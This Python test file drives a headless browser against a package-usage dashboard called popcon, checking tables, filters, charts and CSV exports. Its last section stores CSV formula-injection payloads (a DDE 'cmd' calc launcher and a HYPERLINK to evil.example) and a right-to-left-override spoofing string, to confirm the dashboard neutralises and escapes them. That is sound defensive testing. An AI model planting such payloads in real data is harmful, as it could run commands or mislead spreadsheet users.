"""The dashboard in a real headless Chromium, against a real ``popcon serve`` fed by real
recorder processes (a real venv with real PyPI packages, enabled by ``popcon enable``).

What runs: three environments (``POPCON_ENV``) with two ``hub=`` labels; team-a imports
requests three times and yaml once (below ``--min-count 2``), team-b imports bs4 and pandas
twice each, team-c imports a package installed with ``pip install --user``. A screenshot of
each page is kept in ``test-artifacts/``.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import urllib.parse
from dataclasses import dataclass
from pathlib import Path

import pytest
from collectors import ServeProcess
from recorder_testlib import Venv, clean_environ, create_venv, pip_install, popcon_cli
from repo import artifact
from timing import wait_until

pytestmark = pytest.mark.slow

TOKEN = "dashboard-test-token"
USER_PACKAGE = "tabulate"  # pure Python, tiny, absent from the workload venv

WORKLOADS = [
    # (environment, labels, code, processes)
    ("team-a", "hub=alpha", "import requests\nrequests.Session()", 3),
    ("team-a", "hub=alpha", "import yaml\nyaml.safe_load('a: 1')", 1),
    ("team-b", "hub=beta", "import bs4\nbs4.BeautifulSoup('<p>x</p>', 'html.parser')", 2),
    ("team-b", "hub=beta", "import pandas\npandas.DataFrame({'a': [1]})", 2),
]


@dataclass
class Fed:
    serve: ServeProcess
    url: str
    versions: dict


def user_site_venv(tmp: Path, home: Path) -> Venv:
    """A venv that sees the user site (system site-packages on), recording enabled, with one
    real PyPI package installed by ``pip install --user``."""
    venv = create_venv(tmp / "user-venv", system_site_packages=True)
    result = popcon_cli("enable", "--python", venv.python, env=clean_environ(home))
    assert result.returncode == 0, result.stdout + result.stderr
    pip_install(
        venv,
        "--user",
        USER_PACKAGE,
        env_extra={"PYTHONUSERBASE": str(home / ".local"), "HOME": str(home)},
    )
    return venv


def run_workloads(runs: list, timeout: float = 180) -> None:
    """Start every recorder process at once, then wait for all of them."""
    procs = [
        (code, subprocess.Popen([str(python), "-c", code], env=env, cwd=cwd,
                                stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True))
        for python, code, env, cwd in runs
    ]  # fmt: skip
    for code, proc in procs:
        out, _ = proc.communicate(timeout=timeout)
        assert proc.returncode == 0, f"{code!r} failed:\n{out}"


@pytest.fixture(scope="module")
def fed(tmp_path_factory: pytest.TempPathFactory, enabled_workload_venv: Venv):
    tmp = tmp_path_factory.mktemp("browser")
    home = tmp / "home"
    home.mkdir()
    serve = ServeProcess(tmp / "popcon.sqlite", "--min-count", "2", env={"POPCON_API_TOKEN": TOKEN})
    try:
        user_venv = user_site_venv(tmp, home)
        runs = []
        for env_name, labels, code, count in WORKLOADS:
            env = clean_environ(
                home, POPCON_COLLECTOR=serve.udp_url, POPCON_ENV=env_name, POPCON_LABELS=labels
            )
            runs += [(enabled_workload_venv.python, code, env, tmp)] * count
        user_env = clean_environ(
            home,
            POPCON_COLLECTOR=serve.udp_url,
            POPCON_ENV="team-c",
            POPCON_LABELS="hub=alpha",
            PYTHONUSERBASE=str(home / ".local"),
        )
        runs += [(user_venv.python, f"import {USER_PACKAGE}", user_env, tmp)] * 2
        run_workloads(runs)

        def arrived():
            _, answer, _ = serve.get("/api/v1/libraries?since=6h", token=TOKEN)
            names = {row["name"] for row in answer["libraries"]}
            _, unused, _ = serve.get("/api/v1/unused?since=6h", token=TOKEN)
            envs = {row["env"] for row in unused["environments"]}
            wanted = {"requests", "pyyaml", "beautifulsoup4", "pandas", "numpy", USER_PACKAGE}
            return wanted <= names and {"team-a", "team-b"} <= envs

        wait_until(arrived, timeout=20, what="the workloads' records in the collector")
        yield Fed(serve, serve.http_url, enabled_workload_venv.metadata_versions())
    finally:
        serve.stop()


def open_page(page, fed: Fed, path: str = "", **params: str) -> None:
    query = urllib.parse.urlencode({"since": "6h", **params})
    page.goto(f"{fed.url}{path}?{query}")


def table_names(page) -> list:
    return page.eval_on_selector_all("main tbody tr", "rows => rows.map(r => r.dataset.name)")


def cell_text(page, name: str, column: int) -> str:
    return page.inner_text(f'main tbody tr[data-name="{name}"] td:nth-child({column})').strip()


def shoot(page, name: str) -> None:
    page.screenshot(path=str(artifact(f"dashboard-{name}.png")), full_page=True)


# -- the libraries table ------------------------------------------------------------------------


def test_table_shows_what_the_workloads_imported(page, fed):
    requested = []
    page.on("request", lambda request: requested.append(request.url))
    open_page(page, fed, token=TOKEN)
    page.wait_for_selector('main[data-loaded="libraries"]')
    assert "token=" not in page.url  # moved out of the address into the tab's storage
    names = table_names(page)
    for name in ("requests", "pyyaml", "beautifulsoup4", "soupsieve", "pandas", "numpy"):
        assert name in names
    assert names.index("requests") < names.index("pyyaml")  # sorted by processes
    assert cell_text(page, "requests", 2) == "3"
    assert cell_text(page, "requests", 4).endswith("100%")  # direct share
    assert cell_text(page, "pyyaml", 2) == "fewer than 2"  # one process, under --min-count
    assert cell_text(page, "soupsieve", 4).endswith("0%")  # only bs4 imports it
    page.wait_for_function(
        """() => document.querySelector('td[data-versions="requests"]').textContent !== '…'"""
    )
    assert cell_text(page, "requests", 6) == fed.versions["requests"]
    trend = page.get_attribute('td[data-trend="requests"] svg', "data-values")
    assert sum(v for v in json.loads(trend) if isinstance(v, int)) == 3
    hosts = {urllib.parse.urlsplit(url).netloc for url in requested}
    assert hosts == {urllib.parse.urlsplit(fed.url).netloc}, hosts  # works offline
    assert not page.errors, page.errors
    shoot(page, "libraries")


def test_filters_change_what_is_shown(page, fed):
    open_page(page, fed, token=TOKEN)
    page.select_option("#env", "team-b")
    page.wait_for_url("**env=team-b**")
    page.wait_for_selector('main[data-loaded="libraries"]')
    names = table_names(page)
    assert "beautifulsoup4" in names and "pandas" in names
    assert "requests" not in names and USER_PACKAGE not in names
    shoot(page, "filter-env")

    page.select_option("#env", "")
    page.select_option("#label", "hub=alpha")
    page.wait_for_url("**label.hub=alpha**")
    page.wait_for_selector('main[data-loaded="libraries"]')
    names = table_names(page)
    assert {"requests", "pyyaml", USER_PACKAGE} <= set(names)
    assert "beautifulsoup4" not in names and "pandas" not in names

    page.fill("#search", "req")
    page.wait_for_url("**q=req**")
    page.wait_for_selector('main[data-loaded="libraries"]')
    assert table_names(page) == ["requests"]
    shoot(page, "filter-label-search")


def test_window_selector_and_sorting(page, fed):
    open_page(page, fed, token=TOKEN)
    page.click("text=30 d")
    page.wait_for_url("**since=30d**")
    page.wait_for_selector('main[data-loaded="libraries"]')
    assert "requests" in table_names(page)
    page.click("th >> text=Library")
    names = table_names(page)
    assert names == sorted(names)
    page.click("th >> text=Library")
    assert table_names(page) == sorted(names, reverse=True)


def test_csv_download_is_what_is_shown(page, fed):
    open_page(page, fed, token=TOKEN, q="y")
    page.wait_for_selector('main[data-loaded="libraries"]')
    page.wait_for_function(
        """() => [...document.querySelectorAll('td[data-versions]')]
                .every(td => td.textContent !== '…')"""
    )
    shown = table_names(page)
    assert "numpy" in shown and "pyyaml" in shown and "requests" not in shown
    with page.expect_download() as download:
        page.click("#csv")
    rows = list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text())))
    assert [row["library"] for row in rows] == shown
    by_name = {row["library"]: row for row in rows}
    assert by_name["numpy"]["processes"] == "2"
    assert by_name["numpy"]["direct_share"] == "0.000"
    assert by_name["numpy"]["versions"] == f"{fed.versions['numpy']} (2)"
    assert by_name["pyyaml"]["processes"] == "fewer than 2"
    assert by_name["pyyaml"]["direct_share"] == ""


# -- a page per library ---------------------------------------------------------------------------


def chart_datasets(page, canvas: str) -> dict:
    return page.evaluate(
        """(id) => Object.fromEntries(Chart.getChart(document.getElementById(id)).data.datasets
                 .map(d => [d.label, d.data]))""",
        canvas,
    )


def test_library_page_draws_its_charts(page, fed):
    open_page(page, fed, token=TOKEN)
    page.click('main a:text-is("numpy")')
    page.wait_for_url("**/library/numpy**")
    page.wait_for_selector('main[data-loaded="library"]')
    processes = chart_datasets(page, "chart-processes")
    assert set(processes) == {"direct", "transitive"}
    assert sum(v or 0 for v in processes["transitive"]) == 2  # the two pandas processes
    versions = chart_datasets(page, "chart-versions")
    assert set(versions) == {fed.versions["numpy"]}
    assert page.is_visible('section:has(h2:text("Imported by")) >> text=pandas')
    assert page.is_visible('section:has(h2:text("Environments")) >> text=team-b')
    assert not page.errors, page.errors
    shoot(page, "library-numpy")

    page.click('section:has(h2:text("Imported by")) >> text=pandas')
    page.wait_for_url("**/library/pandas**")
    page.wait_for_selector('main[data-loaded="library"]')
    processes = chart_datasets(page, "chart-processes")
    assert sum(v or 0 for v in processes["direct"]) == 2
    shoot(page, "library-pandas")


# -- unused, user-installed, environments ----------------------------------------------------------


def test_unused_and_user_installed_tabs(page, fed):
    open_page(page, fed, "unused", token=TOKEN)
    page.wait_for_selector('main[data-loaded="unused"]')
    team_a = page.locator('details[data-env="team-a"]')
    unused = team_a.locator(".chip").evaluate_all("chips => chips.map(c => c.dataset.name)")
    assert "pandas" in unused and "scikit-learn" in unused  # installed, not imported by team-a
    assert "requests" not in unused and "pyyaml" not in unused
    shoot(page, "unused")

    page.click('nav a:text("User-installed")')
    page.wait_for_selector('main[data-loaded="user-installed"]')
    assert table_names(page) == [USER_PACKAGE]
    assert cell_text(page, USER_PACKAGE, 2) == "team-c"
    shoot(page, "user-installed")

    page.click('nav a:text("Environments")')
    page.wait_for_selector('main[data-loaded="environments"]')
    text = page.inner_text("main table")
    assert "team-a" in text and "hub=alpha" in text and "hub=beta" in text
    shoot(page, "environments")


def test_narrow_screen(chromium, fed):
    context = chromium.new_context(viewport={"width": 390, "height": 844}, is_mobile=True)
    page = context.new_page()
    try:
        open_page(page, fed, token=TOKEN)
        page.wait_for_selector('main[data-loaded="libraries"]')
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
        assert page.is_visible('main a:text-is("requests")')
        shoot(page, "narrow-libraries")
        page.click('main a:text-is("pandas")')
        page.wait_for_selector('main[data-loaded="library"]')
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
        shoot(page, "narrow-library")
    finally:
        context.close()


def test_without_a_token_the_page_asks_for_one(page, fed):
    open_page(page, fed)
    page.wait_for_selector(".token-form")
    assert page.is_visible("text=A token is needed")
    page.fill('.token-form input[name="token"]', TOKEN)
    page.click(".token-form button")
    page.wait_for_selector('main[data-loaded="libraries"]')
    assert "requests" in table_names(page)


def test_recorder_processes_really_ran(fed):
    """The table's facts come from the recorder, not from this file: the versions the page
    shows are those the venv's own metadata reports."""
    _, answer, _ = fed.serve.get("/api/v1/libraries/requests?since=6h", token=TOKEN)
    assert answer["versions"] == [{"version": fed.versions["requests"], "processes": 3}]


# -- hostile stored text: CSV formulas, spoofing characters -----------------------------------

#: What senders may put in an environment label and in versions (see tests/faces/test_csv.py).
ENV_CMD = "=cmd|' /C calc'!A0"
ENV_AT = "@SUM(1+1)*cmd|' /C calc'!A0"
VERSION_LINK = '=HYPERLINK("http://evil.example/?x","click")'
VERSION_MINUS = "-1+1"
INVENTORY_VERSION = "+1+cmd"
#: What old data may hold (the decoder now refuses it): a right-to-left override, a C1 control.
SPOOFED_ENV = "img:\u202eexe.gnp\x9b"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory):
    """``popcon serve`` over a database of formulas and spoofing characters (no recorder:
    these never come from a real one)."""
    import sqlite3

    from collectors import store_datagrams
    from datagrams import inventory_datagrams, use_datagram
    from timing import HOUR, NOW

    db = tmp_path_factory.mktemp("hostile") / "popcon.sqlite"
    at = NOW - HOUR
    labels = [("hub", VERSION_MINUS)]
    timed = [(at, use_datagram(ENV_CMD, [("numpy", VERSION_LINK, "direct", "env")], labels=labels))]
    timed *= 2
    timed += [(at, use_datagram(ENV_AT, [("scipy", VERSION_MINUS, "direct", "user")]))]
    timed += [(at, use_datagram("img:spoof", [("numpy", "2.1.0", "direct", "env")]))]
    timed += [(at, d) for d in inventory_datagrams(ENV_CMD, [("six", INVENTORY_VERSION)])]
    store_datagrams(db, timed)
    conn = sqlite3.connect(db)
    conn.execute("UPDATE envs SET name = ? WHERE name = 'img:spoof'", (SPOOFED_ENV,))
    conn.commit()
    conn.close()
    serve = ServeProcess(db, "--min-count", "1", env={"POPCON_API_TOKEN": TOKEN})
    try:
        yield Fed(serve, serve.http_url, {})
    finally:
        serve.stop()


def downloaded_csv(page) -> list:
    with page.expect_download() as download:
        page.click("#csv")
    return list(csv.reader(io.StringIO(Path(download.value.path()).read_text())))


def assert_no_formula(rows: list) -> None:
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_STARTS), value


def test_csv_downloads_neutralise_formulas(page, hostile):
    open_page(page, hostile, token=TOKEN)
    page.wait_for_selector('main[data-loaded="libraries"]')
    page.wait_for_function(
        """() => [...document.querySelectorAll('td[data-versions]')]
                .every(td => td.textContent !== '…')"""
    )
    rows = downloaded_csv(page)
    assert_no_formula(rows)
    by_name = {row[0]: row for row in rows[1:]}
    assert by_name["numpy"][1] == "3"  # a count stays a number
    assert by_name["numpy"][5].startswith("'" + VERSION_LINK + " (2)")
    assert by_name["scipy"][5] == "'" + VERSION_MINUS + " (1)"

    views = {
        "unused": {"'" + ENV_CMD, "'" + INVENTORY_VERSION},
        "user-installed": {"'" + ENV_AT, "'" + VERSION_MINUS + " (1)"},
        "environments": {"'" + ENV_CMD, "'" + ENV_AT, "hub=" + VERSION_MINUS},
    }
    for view, expected in views.items():
        open_page(page, hostile, view)
        page.wait_for_selector(f'main[data-loaded="{view}"]')
        rows = downloaded_csv(page)
        assert_no_formula(rows)
        assert expected <= {value for row in rows for value in row}, view
    assert not page.errors, page.errors


def test_spoofing_characters_are_shown_escaped(page, hostile):
    open_page(page, hostile, "environments", token=TOKEN)
    page.wait_for_selector('main[data-loaded="environments"]')
    text = page.inner_text("main table")
    assert "img:\\u202eexe.gnp\\u009b" in text
    assert "\u202e" not in text and "\x9b" not in text
    options = page.eval_on_selector_all(
        "#env option", "options => options.map(o => [o.value, o.textContent])"
    )
    assert [SPOOFED_ENV, "img:\\u202eexe.gnp\\u009b"] in options  # the value is the data
    assert ENV_CMD in text  # text that is no control stays as it is
    shoot(page, "environments-spoofed")
    assert not page.errors, page.errors
